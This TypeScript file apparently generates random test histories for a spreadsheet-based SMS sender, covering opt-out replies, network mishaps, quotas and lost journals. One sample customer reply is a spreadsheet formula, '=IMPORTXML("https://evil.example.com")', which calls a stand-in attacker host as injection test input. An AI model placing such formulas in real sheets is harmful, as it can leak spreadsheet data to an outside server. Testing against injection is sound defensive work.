/** What may happen in a history, as data that can be printed, dropped and played again. */
import { chanceOf, type Chance } from './chance';
import type { Mishap } from '../../local/phoneNetwork';
import { SCENES } from './scenes';

/** Which of two files: the copy is there once it was made. */
export type FileName = 'original' | 'copy';

/** What a person does in a file, between runs or in the middle of one. */
export type Deed =
  | { readonly do: 'sort'; readonly tab: 'Customers' | 'Texts' }
  | {
      readonly do: 'delete row' | 'copy row' | 'new phone' | 'no segment' | 'consent no' | 'consent yes';
      readonly person: number;
    }
  | { readonly do: 'same phone'; readonly person: number; readonly as: number }
  | { readonly do: 'type Prepared' }
  | { readonly do: 'delete consent line'; readonly line: number }
  | { readonly do: 'delete tab'; readonly tab: string }
  | { readonly do: 'reply'; readonly person: number; readonly words: string }
  | { readonly do: 'stop everything' };

export type Step =
  | {
      readonly kind: 'tick';
      readonly file: FileName;
      readonly by: 'owner' | 'colleague';
      readonly times: number;
    }
  | { readonly kind: 'killed'; readonly file: FileName; readonly at: number }
  | { readonly kind: 'overlap'; readonly file: FileName; readonly at: number }
  | { readonly kind: 'both files'; readonly at: number }
  | { readonly kind: 'meanwhile'; readonly file: FileName; readonly at: number; readonly deed: Deed }
  | { readonly kind: 'deed'; readonly file: FileName; readonly deed: Deed }
  | { readonly kind: 'mishap'; readonly mishap: Mishap; readonly times: number; readonly on: 'send' | 'read' }
  | { readonly kind: 'list delay'; readonly seconds: number }
  | { readonly kind: 'approve' | 'review' | 'new words'; readonly file: FileName }
  | { readonly kind: 'quota'; readonly service: 'urlfetch' | 'properties'; readonly left: number }
  | { readonly kind: 'clock'; readonly minutes: number }
  | { readonly kind: 'wait'; readonly minutes: number }
  | { readonly kind: 'copy file' }
  | { readonly kind: 'wipe journal' };

export interface History {
  readonly seed: number;
  /** A place in the list of scenes. */
  readonly scene: number;
  /** The journal is lost, or there is a second one: then only the provider's list knows what was sent, and shows it at once. */
  readonly isForgetful: boolean;
  readonly steps: readonly Step[];
}

/** What people write; Twilio obeys only some of them by itself. */
export const STOP_WORDS = [
  'STOP',
  'Stop.',
  'opt out',
  'Opt-Out',
  'STOP please',
  'unsubscribe',
  'end',
  'Quit!',
  'cancel',
  'revoke',
  'remove me',
  'arrêt',
  'ALTO',
  'wrong number',
  "please don't text me",
];
const OTHER_WORDS = ['Thanks!', '=IMPORTXML("https://evil.example.com")', 'When are you open?', 'START'];
const MISHAPS: readonly Mishap[] = [
  'throttle',
  'server error',
  'server error after accepting',
  'lost answer',
  'cut answer',
  'no connection',
  'redirect',
];
const PEOPLE = 5;
const MOST_STEPS = 12;
const LEAST_STEPS = 5;
const MOST_CALLS = 75;
const DELAYS = [0, 300, 1800];
const WAITS = [1, 5, 11, 20, 60, 60, 61, 180, 1440, 4320];
const TABS = ['Texts', 'Activity', 'Contact log', 'Problems', 'Follow-ups'];

export function makeHistory(seed: number): History {
  const chance = chanceOf(seed);
  const scene = chance.below(SCENES.length);
  const isForgetful = chance.below(4) === 0;
  const length = LEAST_STEPS + chance.below(MOST_STEPS - LEAST_STEPS + 1);
  const steps: Step[] = makeWeather(chance, isForgetful);
  for (let step = 0; step < length; step++) {
    steps.push(makeStep(chance, isForgetful));
    steps.push({ kind: 'wait', minutes: chance.of(WAITS) });
  }
  return { seed, scene, isForgetful, steps };
}

/** Most texts leave in the first run: what goes wrong on the way has to be there before. */
function makeWeather(chance: Chance, isForgetful: boolean): Step[] {
  const steps: Step[] = [];
  if (!isForgetful && chance.below(3) === 0) steps.push({ kind: 'list delay', seconds: chance.of(DELAYS) });
  while (steps.length < 3 && chance.below(2) === 0) steps.push(makeMishap(chance));
  return steps;
}

function makeMishap(chance: Chance): Step {
  const on = chance.below(4) === 0 ? 'read' : 'send';
  return { kind: 'mishap', mishap: chance.of(MISHAPS), times: 1 + chance.below(3), on };
}

function makeStep(chance: Chance, isForgetful: boolean): Step {
  const file: FileName = isForgetful && chance.below(2) === 0 ? 'copy' : 'original';
  const at = 1 + chance.below(MOST_CALLS);
  const steps: (() => Step)[] = [
    () => ({ kind: 'tick', file, by: 'owner', times: 1 + chance.below(2) }),
    () => ({ kind: 'tick', file, by: chance.of(['owner', 'colleague']), times: 1 }),
    () => ({ kind: 'killed', file, at }),
    () => ({ kind: 'killed', file, at }),
    () => ({ kind: 'overlap', file, at }),
    () => ({ kind: 'meanwhile', file, at, deed: makeDeed(chance, isForgetful) }),
    () => ({ kind: 'deed', file, deed: makeDeed(chance, isForgetful) }),
    () => ({ kind: 'deed', file, deed: makeDeed(chance, isForgetful) }),
    () => makeMishap(chance),
    () => ({ kind: 'approve', file }),
    () => ({ kind: 'review', file }),
    () => ({ kind: 'quota', service: chance.of(['urlfetch', 'properties']), left: chance.below(30) }),
    () => ({ kind: 'clock', minutes: chance.of([-4, -1, 0, 2, 4]) }),
  ];
  const forgetful: (() => Step)[] = [
    () => ({ kind: 'copy file' }),
    () => ({ kind: 'wipe journal' }),
    () => ({ kind: 'both files', at }),
  ];
  const mindful: (() => Step)[] = [
    () => ({ kind: 'list delay', seconds: chance.of(DELAYS) }),
    () => ({ kind: 'new words', file }),
  ];
  return chance.of([...steps, ...(isForgetful ? [...forgetful, ...forgetful] : mindful)])();
}

function makeDeed(chance: Chance, isForgetful: boolean): Deed {
  const person = chance.below(PEOPLE);
  const deeds: (() => Deed)[] = [
    () => ({ do: 'sort', tab: chance.of(['Customers', 'Texts']) }),
    () => ({ do: chance.of(['delete row', 'copy row', 'no segment', 'consent no', 'consent yes']), person }),
    () => ({ do: 'same phone', person, as: chance.below(PEOPLE) }),
    () => ({ do: 'type Prepared' }),
    () => ({ do: 'delete tab', tab: chance.of(TABS) }),
    () => ({ do: 'reply', person, words: chance.of(STOP_WORDS) }),
    () => ({ do: 'reply', person, words: chance.of(OTHER_WORDS) }),
    () => ({ do: 'stop everything' }),
  ];
  // Without a journal nobody can know that a new number is somebody who had the text, nor what stood in a line that is gone.
  if (!isForgetful)
    deeds.push(
      () => ({ do: 'new phone', person }),
      () => ({ do: 'delete consent line', line: chance.below(3) }),
      () => ({ do: 'delete tab', tab: 'Consent' }),
    );
  return chance.of(deeds)();
}
